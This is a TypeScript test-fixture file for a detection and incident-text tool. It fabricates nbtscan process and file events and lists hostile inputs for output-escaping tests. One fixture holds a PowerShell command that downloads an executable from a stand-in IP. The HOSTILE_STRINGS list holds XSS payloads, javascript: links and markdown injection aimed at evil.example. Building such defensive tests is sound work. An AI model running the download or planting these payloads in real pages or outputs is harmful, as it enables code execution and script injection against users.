// Test events and hits for triage and incident-text tests. Defaults describe a plain, unexplained
// nbtscan run by hand: cmd.exe parent, C:\Tools folder, no benign wording, matched by name.
import { eventKey } from "../../functions/enrich/enrich";
import type { BenignMatch, DetectionEvent, EnrichedHit, MatchedBy } from "../../functions/model";

/** A known nbtscan SHA1 (nbtscan.yaml knownHashes). */
export const KNOWN_SHA1 = "9af0cb61580dba0e380cddfe9ca43a3e128ed2f8";

let sequence = 0;

/** A DeviceProcessEvents row for nbtscan.exe; override any column. */
export function makeEvent(overrides: Partial<DetectionEvent> = {}): DetectionEvent {
  sequence += 1;
  const minute = String(sequence % 60).padStart(2, "0");
  return {
    SourceTable: "DeviceProcessEvents",
    TimeGenerated: `2026-11-25T08:${minute}:00.000Z`,
    Timestamp: `2026-11-25T08:${minute}:00.000Z`,
    IngestionTime: `2026-11-25T08:${minute}:30.000Z`,
    DeviceId: "1f0e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c",
    DeviceName: "ws-fin-07.contoso.local",
    ReportId: String(5000 + sequence),
    ActionType: "ProcessCreated",
    FolderPath: "C:\\Tools\\nbtscan.exe",
    FileName: "nbtscan.exe",
    SHA1: "0123456789abcdef0123456789abcdef01234567",
    SHA256: "b".repeat(64),
    ProcessCommandLine: "nbtscan.exe -r 10.1.2.0/24",
    InitiatingProcessAccountDomain: "CONTOSO",
    InitiatingProcessAccountName: "j.doe",
    InitiatingProcessFileName: "cmd.exe",
    InitiatingProcessCommandLine: "cmd.exe /c nbtscan.exe -r 10.1.2.0/24",
    InitiatingProcessParentFileName: "explorer.exe",
    ...overrides,
  };
}

/** A DeviceFileEvents row: nbtscan.exe written to disk. */
export function makeFileEvent(overrides: Partial<DetectionEvent> = {}): DetectionEvent {
  return makeEvent({
    SourceTable: "DeviceFileEvents",
    ActionType: "FileCreated",
    ProcessCommandLine: "",
    InitiatingProcessFileName: "powershell.exe",
    InitiatingProcessCommandLine: "powershell.exe -nop -c iwr http://10.9.9.9/n.exe",
    ...overrides,
  });
}

export interface HitOptions {
  matchedBy?: MatchedBy;
  renamedBinary?: boolean;
  benign?: BenignMatch[];
}

/** An EnrichedHit around an event; a hash-only match is a renamed binary unless told otherwise. */
export function makeHit(
  event: DetectionEvent = makeEvent(),
  options: HitOptions = {},
): EnrichedHit {
  const matchedBy = options.matchedBy ?? "name";
  return {
    key: eventKey(event),
    event,
    matchedBy,
    renamedBinary: options.renamedBinary ?? matchedBy === "hash",
    benign: options.benign ?? [],
  };
}

/** A BenignMatch as annotateBenign would produce it. */
export function benignMatch(scenario = "scheduled-network-inventory"): BenignMatch {
  return { scenario, title: `Title of ${scenario}`, matchedFields: ["ProcessCommandLine"] };
}

/** Strings an attacker can put in a command line, path, file, account or device name. */
export const HOSTILE_STRINGS = [
  "</td><script>alert(1)</script>",
  "[click](http://evil.example/x)",
  "![x](http://evil.example/x.png)",
  "`code` ```fence``` \\`",
  "a | b || c \\| d",
  "line1\r\nline2\rline3\nline4\u2028line5",
  "# heading\n- item\n> quote\n1. list",
  "www.evil.example javascript:alert(1) <http://evil.example> https://evil.example",
  "&lt;b&gt;entity&amp; &#106;avascript:",
  "**bold** __under__ ~~strike~~ _it_ {braces} (paren) +plus -minus .dot !bang",
  "user@evil.example mailto:x@evil.example",
  "\u202egnp.exe\u200b\u0000\u0007 ünïcødé 漢字 😀",
  "C:\\Users\\bob\\AppData\\Local\\Temp\\",
  "x".repeat(40000),
  "<img src=x onerror=alert(1)>".repeat(500),
];
